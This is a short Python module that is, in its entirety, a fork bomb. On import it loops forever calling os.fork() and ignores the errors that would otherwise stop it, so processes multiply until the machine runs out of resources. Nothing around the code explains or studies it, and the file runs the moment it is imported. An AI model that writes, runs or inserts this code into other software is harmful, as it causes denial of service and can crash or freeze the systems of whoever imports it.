"""Forks without end at import."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
